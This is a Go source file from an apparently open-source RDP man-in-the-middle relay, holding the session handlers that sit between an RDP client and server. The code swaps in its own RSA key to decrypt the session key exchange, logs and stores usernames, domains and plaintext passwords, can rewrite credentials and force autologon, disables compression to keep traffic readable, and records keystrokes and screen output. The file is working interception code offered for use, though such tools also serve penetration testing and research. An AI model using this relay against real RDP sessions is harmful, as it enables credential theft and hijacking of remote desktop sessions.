// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package mitm

import (
	"fmt"
	"log/slog"

	"github.com/x-stp/rdp-mitm-go/internal/logger"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp"
	"github.com/x-stp/rdp-mitm-go/pkg/recording"
)

// securityObserver handles the security PDUs of the I/O channel: the key
// exchange is re-encrypted for the server's key, client info is recorded
// and optionally rewritten, the rest is forwarded.
type securityObserver struct {
	s    *Session
	side Side
}

func (o *securityObserver) peer() *peer { return o.s.peers[o.side.Peer()] }

func (o *securityObserver) OnSecurityExchange(_ *rdp.SecurityHeader, pdu *rdp.SecurityExchangePDU) error {
	s := o.s
	if o.side != SideClient || s.serverKey == nil {
		return fmt.Errorf("unexpected security exchange from %s", o.side)
	}
	random, err := rdp.DecryptClientRandom(s.app.RSAKey, pdu.EncryptedClientRandom)
	if err != nil {
		return fmt.Errorf("client random: %w", err)
	}
	for _, p := range s.peers {
		if err := p.settings.SetClientRandom(random); err != nil {
			return err
		}
	}
	s.log.Debug("Session keys derived")
	return o.peer().security.SendSecurityExchange(&rdp.SecurityExchangePDU{
		EncryptedClientRandom: rdp.EncryptClientRandom(s.serverKey, random),
	})
}

func (o *securityObserver) OnClientInfo(h *rdp.SecurityHeader, pdu *rdp.ClientInfoPDU) error {
	s := o.s
	s.record(recording.Event{Type: recording.EventClientInfo, Payload: pdu.Encode()})
	s.log.Info("Client info",
		logger.Username(pdu.Username),
		logger.Domain(pdu.Domain),
		logger.Password(pdu.Password),
		slog.Bool("autologon", pdu.Flags&rdp.INFO_AUTOLOGON != 0))
	if pdu.Password != "" {
		s.recordJSON(recording.EventCredentials, recording.Credentials{
			Source:   "client_info",
			Domain:   pdu.Domain,
			Username: pdu.Username,
			Password: pdu.Password,
		})
		s.metrics.CredentialsCaptured("client_info")
	}

	creds := s.app.Config.Credentials
	if creds.ReplaceUsername != "" {
		pdu.Username = creds.ReplaceUsername
	}
	if creds.ReplacePassword != "" {
		pdu.Password = creds.ReplacePassword
		pdu.Flags |= rdp.INFO_AUTOLOGON
	}
	// bulk compression would hide the channel payloads from the relay
	pdu.DisableCompression()
	return o.peer().security.SendClientInfo(h.Flags, pdu)
}

func (o *securityObserver) OnLicensing(h *rdp.SecurityHeader, pdu *rdp.LicensingPDU) error {
	return o.peer().security.SendLicensing(h.Flags, pdu)
}

func (o *securityObserver) OnSideband(h *rdp.SecurityHeader, payload []byte) error {
	return o.peer().security.SendSideband(h.Flags, payload)
}

type slowPathObserver struct {
	s    *Session
	side Side
}

func (o *slowPathObserver) OnSlowPath(pdu *rdp.SlowPathPDU) error {
	s := o.s
	s.metrics.PDU(o.side.String(), "slow-path")
	forward := true
	var err error
	if o.side == SideClient {
		forward, err = s.clientSlowPath(pdu)
	} else {
		forward, err = s.serverSlowPath(pdu)
	}
	if err != nil || !forward {
		return err
	}
	return s.peers[o.side.Peer()].slowPath.SendPDU(pdu)
}

func (s *Session) clientSlowPath(pdu *rdp.SlowPathPDU) (bool, error) {
	forward := true
	switch {
	case pdu.Flow:
	case pdu.Control.Type() == rdp.PDUTYPE_CONFIRMACTIVEPDU:
		active, err := rdp.ParseActivePDU(pdu.Payload, true)
		if err != nil {
			return false, err
		}
		if active.DisableVirtualChannelCompression() {
			pdu.Payload = active.Encode()
		}
	case pdu.Data != nil && pdu.Data.PDUType2 == rdp.PDUTYPE2_INPUT:
		events, err := rdp.ParseInputEvents(pdu.Payload)
		if err != nil {
			return false, err
		}
		s.keys.SlowPath(events)
		forward = s.state.ForwardInput
	}
	s.record(recording.Event{Type: recording.EventSlowPathInput, Payload: pdu.Encode()})
	return forward, nil
}

func (s *Session) serverSlowPath(pdu *rdp.SlowPathPDU) (bool, error) {
	forward := true
	switch {
	case pdu.Flow:
	case pdu.Control.Type() == rdp.PDUTYPE_DEMANDACTIVEPDU:
		active, err := rdp.ParseActivePDU(pdu.Payload, false)
		if err != nil {
			return false, err
		}
		if active.DisableVirtualChannelCompression() {
			pdu.Payload = active.Encode()
		}
		s.state.ShareID = active.ShareID
		if s.state.State < StateActive {
			s.state.State = StateActive
			s.log.Info("Session active", slog.Uint64("share_id", uint64(active.ShareID)))
		}
	case pdu.Control.Type() == rdp.PDUTYPE_SERVER_REDIR_PKT:
		red, err := rdp.ParseServerRedirection(pdu.Payload)
		if err != nil {
			s.log.Warn("Unreadable server redirection", logger.Err(err))
			break
		}
		s.log.Info("Server redirection", slog.Uint64("session_id", uint64(red.SessionID)), logger.Target(red.TargetNetAddress))
	case pdu.Data != nil:
		switch pdu.Data.PDUType2 {
		case rdp.PDUTYPE2_SAVE_SESSION_INFO:
			info, err := rdp.ParseSaveSessionInfo(pdu.Payload)
			if err != nil {
				s.log.Warn("Unreadable save session info", logger.Err(err))
				break
			}
			if info.Username != "" {
				s.log.Info("User logged on", logger.Username(info.Username), logger.Domain(info.Domain),
					slog.Uint64("session_id", uint64(info.SessionID)))
			}
		case rdp.PDUTYPE2_SET_ERROR_INFO_PDU:
			if code, err := rdp.ErrorInfo(pdu.Payload); err == nil && code != 0 {
				s.log.Info("Server error info", slog.String("code", fmt.Sprintf("0x%08X", code)))
			}
		case rdp.PDUTYPE2_UPDATE, rdp.PDUTYPE2_POINTER:
			forward = s.state.ForwardOutput
		}
	}
	s.record(recording.Event{Type: recording.EventSlowPathOutput, Payload: pdu.Encode()})
	return forward, nil
}

type fastPathObserver struct {
	s    *Session
	side Side
}

func (o *fastPathObserver) OnFastPath(pdu *rdp.FastPathPDU) error {
	s := o.s
	s.metrics.PDU(o.side.String(), "fast-path")
	forward := s.state.ForwardOutput
	event := recording.EventFastPathOutput
	if o.side == SideClient {
		events, err := rdp.ParseFastPathInput(pdu)
		if err != nil {
			return err
		}
		s.keys.FastPath(events)
		forward = s.state.ForwardInput
		event = recording.EventFastPathInput
	}
	s.record(recording.Event{Type: event, Payload: pdu.Encode()})
	if !forward {
		return nil
	}
	return s.peers[o.side.Peer()].fastPath.SendPDU(pdu)
}

// rawObserver relays a channel the relay does not interpret.
type rawObserver struct {
	s         *Session
	side      Side
	channelID uint16
}

func (o *rawObserver) OnRaw(data []byte) error {
	o.s.metrics.PDU(o.side.String(), "raw")
	return o.s.peers[o.side.Peer()].channels[o.channelID].Send(data)
}
